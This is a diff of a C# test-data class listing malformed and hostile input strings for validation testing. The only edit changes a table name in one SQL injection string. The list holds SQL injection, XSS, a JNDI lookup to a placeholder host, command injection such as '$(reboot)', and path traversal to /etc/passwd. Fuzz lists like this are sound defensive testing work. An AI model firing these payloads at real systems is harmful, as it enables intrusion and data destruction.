@@ -8,7 +8,7 @@ internal static class BadValues
         "", " ", "\t", "\r\n", "0", "-1", "+1", "1.5", "1e3", "0x10", "1,000", "٣", "NaN", "Infinity", "2147483648", "-9223372036854775809", "99999999999999999999999999999999",
         "true", "TRUE", "yes", "null", "undefined", "None", "[]", "{}", "{\"a\":1}", "\u0001", "a\u0007b", "\u007f", "\u0085", "\u2028", "\ufeff", "\u202egnp.exe", "\uffff",
         "😀", "👩‍👩‍👧‍👦", "é", "e\u0301", "İstanbul", "ﬃ", "数据", "البيانات", "ข้อมูล", "𝒮𝒾𝓂", "Ａctive",
-        "' OR '1'='1", "'; DROP TABLE Sims; --", "\" OR \"\"=\"", "1); DELETE FROM Fleets", "%' ESCAPE '", "[a-z]%", "_", "*", "\\", "\\'", "/*", "sleep(5)",
+        "' OR '1'='1", "'; DROP TABLE SIMs; --", "\" OR \"\"=\"", "1); DELETE FROM Fleets", "%' ESCAPE '", "[a-z]%", "_", "*", "\\", "\\'", "/*", "sleep(5)",
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}", "${jndi:ldap://callbacks.invalid/a}", "$(reboot)", "`id`", "| cat /etc/passwd", "%n%s%x",
         "a/b", "../../../etc/passwd", "..\\..\\win.ini", "a?b", "a#b", "a&b=c", "a;b", "a+b", "C:\\con", "file:///etc/passwd", "http://", "http://[::1", "http://a:99999/", "//callbacks.invalid", "http://callbacks.invalid/\u0001",
         "HS00000000000000000000000000000000", "HS0000000000000000000000000000000", "HSgggggggggggggggggggggggggggggggg", "hs00000000000000000000000000000000", "AC00000000000000000000000000000009",
